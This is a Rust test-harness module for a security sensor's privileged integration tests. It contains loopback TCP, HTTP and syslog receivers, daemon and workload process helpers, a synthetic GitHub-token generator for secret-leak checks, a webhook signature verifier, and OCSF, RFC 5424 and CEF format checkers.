//! Harness for the privileged integration tests: a loopback TCP sink that records what it
//! receives, helpers to start the real sensor (probes and all) in-process, to run the
//! scriptable workload as a real child process, and to collect the events it caused.

use std::io::Read;
use std::net::{SocketAddr, TcpListener};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use sensor::config::Config;
use sensor::sensor::{Sensor, WatchArgs};
use sensor::state::events::SensorEvent;
use tokio::sync::mpsc;

pub mod kafka;

/// A binary next to the test executable's profile directory (target/<profile>/NAME).
fn target_bin(name: &str) -> PathBuf {
    let exe = std::env::current_exe().expect("current_exe");
    // target/<profile>/deps/<test> → target/<profile>/<name>
    let dir = exe.parent().and_then(|p| p.parent()).expect("target dir");
    let p = dir.join(name);
    assert!(
        p.is_file(),
        "{} missing: run `cargo build` first",
        p.display()
    );
    p
}

/// Path of the workload binary built with the tests.
pub fn workload_bin() -> PathBuf {
    target_bin("sensor-workload")
}

/// A fresh state directory (outbox) for one daemon: daemons of concurrent test runs must
/// not share the default one (its lock admits one daemon).
pub fn own_state_dir() -> PathBuf {
    std::env::temp_dir().join(format!(
        "sensor-cli-state-{}-{}",
        std::process::id(),
        STATE_SEQ.fetch_add(1, std::sync::atomic::Ordering::Relaxed)
    ))
}

/// Path of the `sensor` binary (`SENSOR_BIN` overrides).
pub fn sensor_bin() -> PathBuf {
    match std::env::var_os("SENSOR_BIN") {
        Some(p) => PathBuf::from(p),
        None => target_bin("sensor"),
    }
}

/// A loopback TCP listener that accepts any number of connections and keeps all bytes.
pub struct TcpSink {
    pub addr: SocketAddr,
    pub received: Arc<Mutex<Vec<u8>>>,
}

impl TcpSink {
    /// Listens on 127.0.0.1 on an ephemeral port.
    pub fn start() -> TcpSink {
        Self::start_on("127.0.0.1:0")
    }

    /// Listens on `addr` (e.g. "[::1]:0").
    pub fn start_on(addr: &str) -> TcpSink {
        let l = TcpListener::bind(addr).expect("bind");
        let addr = l.local_addr().unwrap();
        let received = Arc::new(Mutex::new(Vec::new()));
        let r = received.clone();
        std::thread::spawn(move || {
            for conn in l.incoming() {
                let Ok(mut c) = conn else { break };
                let r = r.clone();
                std::thread::spawn(move || {
                    let mut buf = vec![0u8; 65536];
                    loop {
                        match c.read(&mut buf) {
                            Ok(0) | Err(_) => break,
                            Ok(n) => r.lock().unwrap().extend_from_slice(&buf[..n]),
                        }
                    }
                });
            }
        });
        TcpSink { addr, received }
    }
}

/// A running in-process sensor and the events it produced.
pub struct Harness {
    pub rt: tokio::runtime::Runtime,
    pub sensor: Option<Sensor>,
    rx: mpsc::Receiver<Vec<SensorEvent>>,
    pub events: Vec<SensorEvent>,
}

/// Config for tests: built-in default without the default exe scopes.
pub fn test_config() -> Config {
    let mut c = Config::builtin();
    c.watch = Default::default();
    c
}

impl Harness {
    /// Starts the sensor with `cfg` and `watch`.
    pub fn start(cfg: Config, watch: WatchArgs) -> Harness {
        let rt = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .unwrap();
        let (tx, rx) = mpsc::channel(10_000);
        let sensor = rt
            .block_on(Sensor::start(&cfg, &watch, tx))
            .expect("sensor starts");
        Harness {
            rt,
            sensor: Some(sensor),
            rx,
            events: Vec::new(),
        }
    }

    /// Collects events until `done` holds over everything collected, or `timeout`.
    pub fn collect_until(
        &mut self,
        timeout: Duration,
        done: impl Fn(&[SensorEvent]) -> bool,
    ) -> bool {
        let deadline = Instant::now() + timeout;
        loop {
            if done(&self.events) {
                return true;
            }
            let left = deadline.saturating_duration_since(Instant::now());
            if left.is_zero() {
                return false;
            }
            let rx = &mut self.rx;
            match self.rt.block_on(async {
                tokio::time::timeout(left.min(Duration::from_millis(100)), rx.recv()).await
            }) {
                Ok(Some(batch)) => self.events.extend(batch),
                Ok(None) => return done(&self.events),
                Err(_) => {}
            }
        }
    }

    /// Collects for a fixed time (to show that something does *not* arrive).
    pub fn collect_for(&mut self, d: Duration) {
        let _ = self.collect_until(d, |_| false);
    }

    /// Events of one process.
    pub fn of_pid(&self, pid: u32) -> Vec<&SensorEvent> {
        self.events
            .iter()
            .filter(|e| e.process.pid == pid)
            .collect()
    }

    /// Stops the sensor and returns its counters.
    pub fn stop(&mut self) -> sensor::ops::stats::StatsSnapshot {
        let s = self.sensor.take().expect("running");
        let stats = self.rt.block_on(s.shutdown());
        while let Ok(batch) = self.rx.try_recv() {
            self.events.extend(batch);
        }
        stats
    }
}

/// Did `pid` exit among `evs`?
pub fn has_exit(evs: &[SensorEvent], pid: u32) -> bool {
    evs.iter()
        .any(|e| e.process.pid == pid && matches!(e.body, sensor::state::events::EventBody::Exit))
}

/// The common shape of a watched-process test: spawn the workload (its steps start with
/// `wait`), watch its pid, release it, collect until it exits and stop the sensor.
/// Returns the pid, the harness with its events, and the sensor's counters.
pub fn watch_workload(
    cfg: Config,
    steps: &[&str],
) -> (u32, Harness, sensor::ops::stats::StatsSnapshot) {
    let mut child = spawn_workload(steps);
    let pid = child.id();
    let mut h = Harness::start(
        cfg,
        WatchArgs {
            pids: vec![pid],
            ..Default::default()
        },
    );
    release(&mut child);
    wait_ok(&mut child);
    assert!(
        h.collect_until(Duration::from_secs(10), |e| has_exit(e, pid)),
        "no exit event for the workload"
    );
    let stats = h.stop();
    (pid, h, stats)
}

/// Spawns the workload with `steps`, stdin piped (for `wait`), stdout/stderr inherited
/// unless `quiet`.
pub fn spawn_workload(steps: &[&str]) -> Child {
    Command::new(workload_bin())
        .args(steps)
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("spawn workload")
}

/// Releases a workload blocked in `wait`.
pub fn release(child: &mut Child) {
    use std::io::Write;
    let stdin = child.stdin.as_mut().expect("piped stdin");
    stdin.write_all(b"go\n").unwrap();
    stdin.flush().unwrap();
}

/// Waits for a child and asserts success.
pub fn wait_ok(child: &mut Child) {
    let st = child.wait().expect("wait");
    assert!(st.success(), "workload failed: {st}");
}

/// A fresh temp directory.
pub fn temp_dir(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("sensor-test-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    d
}

/// Waits for the CLI's "sensor ready" line; returns the child with its stderr being read.
pub fn wait_ready(
    mut child: std::process::Child,
) -> (std::process::Child, std::sync::mpsc::Receiver<String>) {
    use std::io::BufRead;
    let stderr = child.stderr.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in std::io::BufReader::new(stderr).lines() {
            let Ok(l) = line else { break };
            if tx.send(l).is_err() {
                break;
            }
        }
    });
    let deadline = std::time::Instant::now() + Duration::from_secs(120);
    let mut seen = Vec::new();
    while std::time::Instant::now() < deadline {
        match rx.recv_timeout(Duration::from_millis(200)) {
            Ok(l) => {
                let ready = l.contains("sensor ready");
                seen.push(l);
                if ready {
                    return (child, rx);
                }
            }
            Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => break,
            Err(_) => {}
        }
    }
    let _ = child.kill();
    panic!("sensor never became ready:\n{}", seen.join("\n"));
}

pub fn stop_cli(
    (mut child, rx): (std::process::Child, std::sync::mpsc::Receiver<String>),
) -> (std::process::ExitStatus, String) {
    unsafe { libc::kill(child.id() as i32, libc::SIGTERM) };
    let status = child.wait().unwrap();
    std::thread::sleep(Duration::from_millis(100));
    let err: Vec<String> = rx.try_iter().collect();
    (status, err.join("\n"))
}

static STATE_SEQ: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);

/// A running `sensor run` process (the real CLI) with its own state directory: a
/// [`Daemon`] started from `sensor run` flags, stopped into a [`CliOutput`].
pub struct CliSensor(Daemon);

/// What a stopped CLI sensor printed.
pub struct CliOutput {
    pub status: std::process::ExitStatus,
    pub stdout: String,
    pub stderr: String,
}

impl CliSensor {
    /// Starts `sensor run ARGS…` and waits until its probes are attached.
    pub fn start(args: &[&str]) -> CliSensor {
        // Each run its own outbox, so no test sees another's undelivered alerts.
        let state = own_state_dir();
        let _ = std::fs::remove_dir_all(&state);
        let mut all = vec!["run"];
        all.extend_from_slice(args);
        all.extend_from_slice(&["--state-dir", state.to_str().expect("UTF-8 path")]);
        CliSensor(Daemon::start_args(&all, &[]))
    }

    /// Stops it with SIGTERM and returns what it printed.
    pub fn stop(mut self) -> CliOutput {
        let status = self.0.stop();
        CliOutput {
            status,
            stdout: self.0.stdout(),
            stderr: self.0.stderr(),
        }
    }
}

impl CliOutput {
    /// The JSON records of a type (`finding`, `repeat`, `event`) on stdout.
    pub fn records(&self, ty: &str) -> Vec<serde_json::Value> {
        self.stdout
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .filter(|v| v["type"] == ty)
            .collect()
    }

    /// Asserts that none of `secrets` appears anywhere in stdout or stderr.
    pub fn assert_no_leak(&self, secrets: &[&str]) {
        for s in secrets {
            assert!(
                !self.stdout.contains(s) && !self.stderr.contains(s),
                "a raw secret appears in the sensor's output:\n{}\n{}",
                self.stdout,
                self.stderr
            );
        }
    }

    /// Everything printed, for assertion messages.
    pub fn dump(&self) -> String {
        format!(
            "status {}\n--- stdout\n{}\n--- stderr\n{}",
            self.status, self.stdout, self.stderr
        )
    }
}

/// Copies the workload binary to `dir/name`, so a test can watch it by exe name.
pub fn workload_as(dir: &std::path::Path, name: &str) -> PathBuf {
    let p = dir.join(name);
    std::fs::copy(workload_bin(), &p).unwrap();
    p
}

/// Polls `cond` every 50 ms until it holds or `timeout` passes.
pub fn wait_for(timeout: Duration, mut cond: impl FnMut() -> bool) -> bool {
    let deadline = Instant::now() + timeout;
    while Instant::now() < deadline {
        if cond() {
            return true;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    cond()
}

// ---------------------------------------------------------------------------------------
// Delivery and revocation harness: loopback HTTP, syslog and webhook receivers, the real
// daemon as a child process, token generators and format checkers.
// ---------------------------------------------------------------------------------------

/// One HTTP request a [`HttpServer`] received.
#[derive(Clone, Debug)]
pub struct HttpRequest {
    pub method: String,
    pub path: String,
    /// Header names lower-cased.
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
    pub at: Instant,
    /// Status the server answered.
    pub status: u16,
}

impl HttpRequest {
    /// A header's value.
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }

    /// The body's lines parsed as JSON (NDJSON / concatenated HEC objects one per line).
    pub fn json_lines(&self) -> Vec<serde_json::Value> {
        String::from_utf8_lossy(&self.body)
            .lines()
            .filter(|l| !l.trim().is_empty())
            .map(|l| serde_json::from_str(l).expect("JSON line"))
            .collect()
    }
}

/// An answer: status, extra headers, body.
pub type HttpAnswer = (u16, Vec<(String, String)>, Vec<u8>);
type Responder = Box<dyn FnMut(&HttpRequest) -> HttpAnswer + Send>;

/// A loopback HTTP/1.1 server (keep-alive, Content-Length bodies) that records every
/// request and answers through a responder.
pub struct HttpServer {
    pub addr: SocketAddr,
    pub requests: Arc<Mutex<Vec<HttpRequest>>>,
}

fn read_request(c: &mut std::net::TcpStream, buf: &mut Vec<u8>) -> Option<HttpRequest> {
    let mut tmp = [0u8; 65536];
    loop {
        let mut headers = [httparse::EMPTY_HEADER; 64];
        let mut req = httparse::Request::new(&mut headers);
        if let Ok(httparse::Status::Complete(n)) = req.parse(buf) {
            let hs: Vec<(String, String)> = req
                .headers
                .iter()
                .map(|h| {
                    (
                        h.name.to_ascii_lowercase(),
                        String::from_utf8_lossy(h.value).into_owned(),
                    )
                })
                .collect();
            let len: usize = hs
                .iter()
                .find(|(k, _)| k == "content-length")
                .and_then(|(_, v)| v.trim().parse().ok())
                .unwrap_or(0);
            let (method, path) = (
                req.method.unwrap_or("").to_string(),
                req.path.unwrap_or("").to_string(),
            );
            while buf.len() < n + len {
                match c.read(&mut tmp) {
                    Ok(0) | Err(_) => return None,
                    Ok(k) => buf.extend_from_slice(&tmp[..k]),
                }
            }
            let body = buf[n..n + len].to_vec();
            buf.drain(..n + len);
            return Some(HttpRequest {
                method,
                path,
                headers: hs,
                body,
                at: Instant::now(),
                status: 0,
            });
        }
        match c.read(&mut tmp) {
            Ok(0) | Err(_) => return None,
            Ok(k) => buf.extend_from_slice(&tmp[..k]),
        }
    }
}

impl HttpServer {
    /// Listens on `addr` ("127.0.0.1:0", or a port reserved earlier) and answers with
    /// `responder`.
    pub fn start(
        addr: &str,
        responder: impl FnMut(&HttpRequest) -> HttpAnswer + Send + 'static,
    ) -> HttpServer {
        use std::io::Write;
        let l = TcpListener::bind(addr).expect("bind http");
        let addr = l.local_addr().unwrap();
        let requests: Arc<Mutex<Vec<HttpRequest>>> = Arc::default();
        let responder: Arc<Mutex<Responder>> = Arc::new(Mutex::new(Box::new(responder)));
        let reqs = requests.clone();
        std::thread::spawn(move || {
            for conn in l.incoming() {
                let Ok(mut c) = conn else { break };
                let (reqs, responder) = (reqs.clone(), responder.clone());
                std::thread::spawn(move || {
                    let mut buf = Vec::new();
                    while let Some(mut r) = read_request(&mut c, &mut buf) {
                        let (status, headers, body) = (responder.lock().unwrap())(&r);
                        r.status = status;
                        reqs.lock().unwrap().push(r);
                        let mut out =
                            format!("HTTP/1.1 {status} X\r\ncontent-length: {}\r\n", body.len());
                        for (k, v) in headers {
                            out.push_str(&format!("{k}: {v}\r\n"));
                        }
                        out.push_str("\r\n");
                        let mut bytes = out.into_bytes();
                        bytes.extend_from_slice(&body);
                        if c.write_all(&bytes).is_err() {
                            break;
                        }
                    }
                });
            }
        });
        HttpServer { addr, requests }
    }

    /// Requests so far.
    pub fn requests(&self) -> Vec<HttpRequest> {
        self.requests.lock().unwrap().clone()
    }
}

/// A loopback port nothing listens on (yet): connections are refused.
pub fn reserve_port() -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    l.local_addr().unwrap().port()
}

/// A syslog receiver on loopback: UDP datagrams or TCP octet-counted frames.
pub struct SyslogServer {
    pub addr: SocketAddr,
    pub messages: Arc<Mutex<Vec<String>>>,
}

impl SyslogServer {
    /// UDP: one message per datagram.
    pub fn udp() -> SyslogServer {
        let s = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
        let addr = s.local_addr().unwrap();
        let messages: Arc<Mutex<Vec<String>>> = Arc::default();
        let m = messages.clone();
        std::thread::spawn(move || {
            let mut buf = vec![0u8; 65536];
            while let Ok(n) = s.recv(&mut buf) {
                m.lock()
                    .unwrap()
                    .push(String::from_utf8_lossy(&buf[..n]).into_owned());
            }
        });
        SyslogServer { addr, messages }
    }

    /// TCP with octet-counting (`LEN SP MSG`, RFC 6587); a malformed frame is recorded as
    /// `FRAMING ERROR`.
    pub fn tcp() -> SyslogServer {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = l.local_addr().unwrap();
        let messages: Arc<Mutex<Vec<String>>> = Arc::default();
        let m = messages.clone();
        std::thread::spawn(move || {
            for conn in l.incoming() {
                let Ok(mut c) = conn else { break };
                let m = m.clone();
                std::thread::spawn(move || {
                    let mut buf = Vec::new();
                    let mut tmp = [0u8; 65536];
                    loop {
                        // Complete frames first.
                        while let Some(sp) = buf.iter().position(|&b| b == b' ') {
                            let Some(len) = std::str::from_utf8(&buf[..sp])
                                .ok()
                                .and_then(|s| s.parse::<usize>().ok())
                            else {
                                m.lock().unwrap().push("FRAMING ERROR".into());
                                return;
                            };
                            if buf.len() < sp + 1 + len {
                                break;
                            }
                            let msg =
                                String::from_utf8_lossy(&buf[sp + 1..sp + 1 + len]).into_owned();
                            m.lock().unwrap().push(msg);
                            buf.drain(..sp + 1 + len);
                        }
                        match c.read(&mut tmp) {
                            Ok(0) | Err(_) => return,
                            Ok(n) => buf.extend_from_slice(&tmp[..n]),
                        }
                    }
                });
            }
        });
        SyslogServer { addr, messages }
    }

    pub fn messages(&self) -> Vec<String> {
        self.messages.lock().unwrap().clone()
    }
}

/// A checksum-valid synthetic GitHub token (`ghp_` + 30 body chars + CRC32 base62).
pub fn github_token(seed: u64) -> String {
    const B62: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
    let mut x = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ 0xD1B5_4A32_D192_ED03;
    let body: String = (0..30)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            B62[(x % 62) as usize] as char
        })
        .collect();
    let mut c = crc32fast::hash(body.as_bytes()) as u64;
    let mut sum = [b'0'; 6];
    for i in (0..6).rev() {
        sum[i] = B62[(c % 62) as usize];
        c /= 62;
    }
    format!("ghp_{body}{}", std::str::from_utf8(&sum).unwrap())
}

/// Verifies a Standard Webhooks request independently of the sensor's code: `whsec_`
/// secret, `{id}.{timestamp}.{body}` HMAC-SHA256, any `v1,` signature in the list,
/// timestamp within ±5 minutes.
pub fn verify_standard_webhook(secret: &str, r: &HttpRequest) -> bool {
    use base64::Engine as _;
    use hmac::Mac;
    let b64 = base64::engine::general_purpose::STANDARD;
    let (Some(id), Some(ts), Some(sigs)) = (
        r.header("webhook-id"),
        r.header("webhook-timestamp"),
        r.header("webhook-signature"),
    ) else {
        return false;
    };
    let Ok(t) = ts.parse::<u64>() else {
        return false;
    };
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    if now.abs_diff(t) > 300 {
        return false;
    }
    let key = b64
        .decode(secret.trim().strip_prefix("whsec_").unwrap())
        .unwrap();
    let mut mac = hmac::Hmac::<sha2::Sha256>::new_from_slice(&key).unwrap();
    mac.update(format!("{id}.{ts}.").as_bytes());
    mac.update(&r.body);
    let want = b64.encode(mac.finalize().into_bytes());
    sigs.split(' ')
        .filter_map(|s| s.strip_prefix("v1,"))
        .any(|s| s == want)
}

/// The real daemon as a child process, its stdout and stderr collected.
pub struct Daemon {
    pub child: Option<Child>,
    pub stdout: Arc<Mutex<String>>,
    pub stderr: Arc<Mutex<String>>,
    /// The threads copying stdout and stderr: joined once the daemon has exited, so
    /// everything it printed is in `stdout`/`stderr`.
    readers: Vec<std::thread::JoinHandle<()>>,
}

impl Daemon {
    /// Starts `sensor run --only-flag-scopes --config CFG --watch-exe EXE` and waits for
    /// "sensor ready".
    pub fn start(cfg: &std::path::Path, exe: &str) -> Daemon {
        Self::start_with(cfg, exe, &[])
    }

    /// Like [`Daemon::start`] with extra environment variables.
    pub fn start_with(cfg: &std::path::Path, exe: &str, env: &[(&str, &str)]) -> Daemon {
        Self::start_args(
            &[
                "run",
                "--only-flag-scopes",
                "--config",
                cfg.to_str().unwrap(),
                "--watch-exe",
                exe,
            ],
            env,
        )
    }

    /// `sensor ARGS…` (a `run` command) with extra environment variables; waits for
    /// "sensor ready".
    pub fn start_args(args: &[&str], env: &[(&str, &str)]) -> Daemon {
        use std::io::BufRead;
        let mut child = Command::new(sensor_bin())
            .args(args)
            .envs(env.iter().copied())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawn sensor");
        let stdout: Arc<Mutex<String>> = Arc::default();
        let stderr: Arc<Mutex<String>> = Arc::default();
        let (o, e) = (stdout.clone(), stderr.clone());
        let out = child.stdout.take().unwrap();
        let err = child.stderr.take().unwrap();
        let copy = |from: Box<dyn std::io::Read + Send>, to: Arc<Mutex<String>>| {
            std::thread::spawn(move || {
                for l in std::io::BufReader::new(from).lines() {
                    let Ok(l) = l else { break };
                    let mut g = to.lock().unwrap();
                    g.push_str(&l);
                    g.push('\n');
                }
            })
        };
        let readers = vec![copy(Box::new(out), o), copy(Box::new(err), e)];
        let d = Daemon {
            child: Some(child),
            stdout,
            stderr,
            readers,
        };
        if !wait_for(Duration::from_secs(120), || {
            d.stderr.lock().unwrap().contains("sensor ready")
        }) {
            panic!("sensor never became ready:\n{}", d.stderr());
        }
        d
    }

    pub fn stdout(&self) -> String {
        self.stdout.lock().unwrap().clone()
    }

    /// Sends `sig` to the daemon.
    pub fn signal(&self, sig: i32) {
        let c = self.child.as_ref().expect("running");
        unsafe { libc::kill(c.id() as i32, sig) };
    }

    /// Whether the daemon is still running.
    pub fn running(&mut self) -> bool {
        self.child
            .as_mut()
            .is_some_and(|c| c.try_wait().ok().flatten().is_none())
    }

    /// The JSON records of a type (`finding`, …) printed on stdout so far.
    pub fn records(&self, ty: &str) -> Vec<serde_json::Value> {
        self.stdout()
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .filter(|v| v["type"] == ty)
            .collect()
    }

    pub fn stderr(&self) -> String {
        self.stderr.lock().unwrap().clone()
    }

    /// SIGTERM and wait; returns the exit status.
    pub fn stop(&mut self) -> std::process::ExitStatus {
        let mut c = self.child.take().expect("running");
        unsafe { libc::kill(c.id() as i32, libc::SIGTERM) };
        let st = c.wait().unwrap();
        self.join_readers();
        st
    }

    /// Waits until the output copied so far is all there is (the pipes closed at exit).
    fn join_readers(&mut self) {
        for r in self.readers.drain(..) {
            let _ = r.join();
        }
    }

    /// SIGKILL (no chance to flush or detach cleanly) and wait.
    pub fn kill9(&mut self) {
        let mut c = self.child.take().expect("running");
        unsafe { libc::kill(c.id() as i32, libc::SIGKILL) };
        let _ = c.wait();
        self.join_readers();
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        if let Some(mut c) = self.child.take() {
            let _ = c.kill();
            let _ = c.wait();
        }
    }
}

/// Runs a watched workload to completion with `steps`.
pub fn run_workload(exe: &std::path::Path, steps: &[String], env: &[(&str, &str)]) {
    let st = Command::new(exe)
        .args(steps)
        .envs(env.iter().copied())
        .stdout(Stdio::null())
        .status()
        .expect("run workload");
    assert!(st.success(), "workload failed: {st}");
}

/// JSON lines of a file (missing file: none).
pub fn json_lines(path: &std::path::Path) -> Vec<serde_json::Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect()
}

/// Every file under `dir` whose bytes contain `needle`.
pub fn files_containing(dir: &std::path::Path, needle: &[u8]) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let Ok(rd) = std::fs::read_dir(dir) else {
        return out;
    };
    for e in rd.flatten() {
        let p = e.path();
        if p.is_dir() {
            out.extend(files_containing(&p, needle));
        } else if std::fs::read(&p)
            .map(|b| b.windows(needle.len()).any(|w| w == needle))
            .unwrap_or(false)
        {
            out.push(p);
        }
    }
    out
}

/// `sensor outbox --json --state-dir DIR` (works while the daemon runs).
pub fn outbox_listing(state_dir: &std::path::Path) -> serde_json::Value {
    let o = Command::new(sensor_bin())
        .args([
            "outbox",
            "--json",
            "--state-dir",
            state_dir.to_str().unwrap(),
        ])
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "sensor outbox: {}",
        String::from_utf8_lossy(&o.stderr)
    );
    serde_json::from_slice(&o.stdout).expect("outbox JSON")
}

/// Problems of an OCSF 1.5.0 event against the required attributes of its class
/// (Detection Finding 2004, Remediation Activity 7001) and of the objects it uses.
pub fn ocsf_problems(v: &serde_json::Value) -> Vec<String> {
    let mut p = Vec::new();
    let mut need = |cond: bool, what: &str| {
        if !cond {
            p.push(what.to_string());
        }
    };
    let int = |k: &str| v.pointer(k).and_then(|x| x.as_u64());
    let class = int("/class_uid").unwrap_or(0);
    // Base event: activity_id, category_uid, class_uid, metadata{product, version},
    // severity_id, time, type_uid = class_uid*100 + activity_id.
    for k in [
        "/activity_id",
        "/category_uid",
        "/class_uid",
        "/severity_id",
        "/time",
        "/type_uid",
    ] {
        need(int(k).is_some(), &format!("{k} (integer) required"));
    }
    need(
        int("/type_uid") == Some(class * 100 + int("/activity_id").unwrap_or(99)),
        "type_uid = class_uid*100 + activity_id",
    );
    need(
        int("/category_uid") == Some(class / 1000),
        "category_uid = class_uid / 1000",
    );
    need(
        matches!(int("/severity_id"), Some(0..=6 | 99)),
        "severity_id in 0..6 or 99",
    );
    need(
        v.pointer("/metadata/version")
            .and_then(|x| x.as_str())
            .is_some(),
        "metadata.version required",
    );
    let product = v.pointer("/metadata/product");
    need(
        product.is_some_and(|pr| pr.get("name").is_some() || pr.get("uid").is_some()),
        "metadata.product needs name or uid",
    );
    match class {
        2004 => {
            need(
                matches!(int("/activity_id"), Some(0..=3 | 99)),
                "activity_id of a finding",
            );
            need(
                v.pointer("/finding_info/uid")
                    .and_then(|x| x.as_str())
                    .is_some_and(|s| !s.is_empty()),
                "finding_info.uid required",
            );
            if let Some(a) = v.pointer("/finding_info/analytic") {
                need(
                    a.get("type_id").and_then(|x| x.as_u64()).is_some(),
                    "analytic.type_id required",
                );
            }
            for e in v["evidences"].as_array().into_iter().flatten() {
                need(
                    [
                        "process",
                        "dst_endpoint",
                        "file",
                        "actor",
                        "src_endpoint",
                        "url",
                        "data",
                    ]
                    .iter()
                    .any(|k| e.get(*k).is_some()),
                    "evidence needs at least one artifact",
                );
                if let Some(pr) = e.get("process") {
                    need(pr.get("pid").is_some(), "process needs pid/uid");
                    if let Some(f) = pr.get("file") {
                        need(
                            f.get("name").is_some() && f.get("type_id").is_some(),
                            "file.name and file.type_id required",
                        );
                    }
                }
                if let Some(d) = e.get("dst_endpoint") {
                    need(
                        d.get("ip").is_some() || d.get("hostname").is_some(),
                        "endpoint needs ip or hostname",
                    );
                }
            }
        }
        7001 => {
            need(
                matches!(int("/activity_id"), Some(0..=5 | 99)),
                "activity_id of a remediation",
            );
            need(
                v.get("command_uid")
                    .and_then(|x| x.as_str())
                    .is_some_and(|s| !s.is_empty()),
                "command_uid required",
            );
            for c in v["countermeasures"].as_array().into_iter().flatten() {
                need(
                    c.get("d3f_tactic").is_some() || c.get("d3f_technique").is_some(),
                    "countermeasure needs tactic or technique",
                );
            }
        }
        other => need(false, &format!("unexpected class_uid {other}")),
    }
    if let Some(d) = v.get("device") {
        need(d.get("type_id").is_some(), "device.type_id required");
    }
    p
}

/// An RFC 5424 message: `(pri, timestamp, hostname, app, procid, msgid, msg)`.
pub type Syslog5424 = (u32, String, String, String, String, String, String);

/// A CEF line: the 7 header fields and the extension pairs, unescaped.
pub type CefLine = (Vec<String>, Vec<(String, String)>);

/// Parses an RFC 5424 message.
pub fn parse_rfc5424(m: &str) -> Result<Syslog5424, String> {
    let rest = m.strip_prefix('<').ok_or("no PRI")?;
    let (pri, rest) = rest.split_once('>').ok_or("no PRI end")?;
    let pri: u32 = pri.parse().map_err(|_| "PRI not a number")?;
    if pri > 191 {
        return Err("PRI > 191".into());
    }
    let rest = rest.strip_prefix("1 ").ok_or("VERSION is not 1")?;
    let mut parts = rest.splitn(6, ' ');
    let mut next = |what: &str| parts.next().map(str::to_string).ok_or(format!("no {what}"));
    let ts = next("TIMESTAMP")?;
    let host = next("HOSTNAME")?;
    let app = next("APP-NAME")?;
    let procid = next("PROCID")?;
    let msgid = next("MSGID")?;
    let sd_msg = next("STRUCTURED-DATA")?;
    // TIMESTAMP: FULL-DATE "T" FULL-TIME with at most 6 fractional digits, or "-".
    if ts != "-" {
        let ok = ts.len() >= 20
            && ts.as_bytes()[4] == b'-'
            && ts.as_bytes()[10] == b'T'
            && (ts.ends_with('Z') || ts[19..].contains('+') || ts[19..].contains('-'))
            && ts
                .split_once('.')
                .map(|(_, f)| f.trim_end_matches('Z').len() <= 6)
                .unwrap_or(true);
        if !ok {
            return Err(format!("bad TIMESTAMP {ts}"));
        }
    }
    for (f, max) in [(&host, 255), (&app, 48), (&procid, 128), (&msgid, 32)] {
        if f.is_empty() || f.len() > max || !f.bytes().all(|b| (33..=126).contains(&b)) {
            return Err(format!("bad header field {f:?}"));
        }
    }
    // STRUCTURED-DATA: NILVALUE here.
    let msg = sd_msg
        .strip_prefix("- ")
        .ok_or("STRUCTURED-DATA is not `-`")?;
    Ok((pri, ts, host, app, procid, msgid, msg.to_string()))
}

/// Parses a CEF line: the 7 header fields (unescaped) and the extension map (unescaped).
pub fn parse_cef(line: &str) -> Result<CefLine, String> {
    let body = line.strip_prefix("CEF:").ok_or("no CEF: prefix")?;
    let mut fields = Vec::new();
    let mut cur = String::new();
    let mut chars = body.chars();
    while fields.len() < 7 {
        match chars.next() {
            None => return Err("fewer than 8 header fields".into()),
            Some('\\') => match chars.next() {
                Some(c @ ('\\' | '|')) => cur.push(c),
                other => return Err(format!("bad header escape \\{other:?}")),
            },
            Some('|') => fields.push(std::mem::take(&mut cur)),
            Some(c) => cur.push(c),
        }
    }
    let ext: String = chars.collect();
    // key=value pairs; values run to the next ` key=`; `=` inside values is escaped.
    let mut pairs = Vec::new();
    let bytes: Vec<char> = ext.chars().collect();
    let mut i = 0;
    while i < bytes.len() {
        let ks = i;
        while i < bytes.len() && bytes[i] != '=' {
            if !bytes[i].is_ascii_alphanumeric() {
                return Err(format!("bad extension key near {:?}", &ext[..]));
            }
            i += 1;
        }
        let key: String = bytes[ks..i].iter().collect();
        i += 1;
        let mut val = String::new();
        while i < bytes.len() {
            match bytes[i] {
                '\\' => {
                    let c = *bytes.get(i + 1).ok_or("dangling escape")?;
                    val.push(match c {
                        'n' => '\n',
                        'r' => '\r',
                        '=' | '\\' => c,
                        other => return Err(format!("bad extension escape \\{other}")),
                    });
                    i += 2;
                }
                '=' => return Err(format!("unescaped = in value of {key}")),
                ' ' => {
                    // Next key?
                    let mut j = i + 1;
                    while j < bytes.len() && bytes[j].is_ascii_alphanumeric() {
                        j += 1;
                    }
                    if j < bytes.len() && bytes[j] == '=' && j > i + 1 {
                        break;
                    }
                    val.push(' ');
                    i += 1;
                }
                c => {
                    val.push(c);
                    i += 1;
                }
            }
        }
        pairs.push((key, val));
        if i < bytes.len() {
            i += 1;
        }
    }
    Ok((fields, pairs))
}

